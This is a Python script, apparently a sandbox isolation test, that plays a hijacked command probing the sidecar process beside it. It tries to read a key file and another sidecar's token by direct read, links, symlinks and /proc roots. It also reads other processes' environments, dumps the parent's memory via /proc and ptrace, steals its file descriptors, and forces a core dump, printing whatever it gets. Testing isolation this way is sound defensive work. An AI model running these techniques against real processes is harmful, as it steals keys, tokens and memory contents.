"""What a hijacked command tries against the sidecar beside it. Whatever it gets goes to standard output, as it is."""
import ctypes, os, re, signal, sys

parent, key_file, token_file = os.getppid(), sys.argv[1], sys.argv[2]
out = sys.stdout.buffer
libc = ctypes.CDLL(None, use_errno=True)


def attack(name, act):
    try:
        data = act()
    except BaseException as error:
        out.write(f"{name}: no: {error!r}\n".encode())
    else:
        out.write(f"{name}: GOT {len(data)}\n".encode() + data + b"\n")
    out.flush()


def read(path):
    with open(path, "rb") as file:
        return file.read(1 << 20)


def read_now(path):
    """Of a descriptor: what is there without waiting, as a pipe of our own would never end."""
    opened = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    try:
        return os.read(opened, 1 << 16)
    except BlockingIOError:
        return b""
    finally:
        os.close(opened)


def called(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return result


def memory():
    data = b""
    with open(f"/proc/{parent}/maps") as maps, open(f"/proc/{parent}/mem", "rb", 0) as mem:
        for line in maps:
            found = re.match(r"([0-9a-f]+)-([0-9a-f]+) rw", line)
            if found:
                start, end = (int(part, 16) for part in found.groups())
                try:
                    mem.seek(start)
                    data += mem.read(min(end - start, 1 << 22))
                except OSError:
                    pass
    return data


def trace():
    called(libc.ptrace(16, parent, None, None))
    os.waitpid(parent, 0)
    data = memory()
    libc.ptrace(17, parent, None, None)
    return data


def own_descriptors():
    data = b""
    for name in os.listdir("/proc/self/fd"):
        if int(name) > 2:
            try:
                os.lseek(int(name), 0, 0)
                data += os.read(int(name), 4096)
            except OSError:
                pass
    return data


def stolen_descriptors():
    handle, data = os.pidfd_open(parent), b""
    for number in range(16):
        data += read_now(f"/proc/self/fd/{called(libc.syscall(438, handle, number, 0))}")
    return data


def renamed(make):
    aside = f"{key_file}.{make.__name__}"
    make(key_file, aside)
    return read(aside)


attack("own environment", lambda: read("/proc/self/environ") + repr(os.environ).encode())
attack("own descriptors", own_descriptors)
attack("key file", lambda: read(key_file))
attack("key file, linked", lambda: renamed(os.link))
attack("key file, symlinked", lambda: renamed(os.symlink))
attack("key file, by another root", lambda: read(f"/proc/{parent}/root{key_file}"))
attack("token of another sidecar", lambda: read(token_file))
for process in sorted(filter(str.isdigit, os.listdir("/proc")), key=int):
    if int(process) != os.getpid():
        attack(f"environment of {process}", lambda: read(f"/proc/{process}/environ"))
attack("command line", lambda: read(f"/proc/{parent}/cmdline"))
attack("memory", memory)
attack("tracing", trace)
attack("descriptors", lambda: b"".join(read_now(f"/proc/{parent}/fd/{n}") for n in os.listdir(f"/proc/{parent}/fd")))
attack("descriptors, stolen", stolen_descriptors)


def dump():
    os.kill(parent, signal.SIGABRT)
    signal.sigtimedwait([], 1)
    return b"".join(read(name) for name in os.listdir(".") if name.startswith("core"))


attack("core dump", dump)
print("all tried", flush=True)
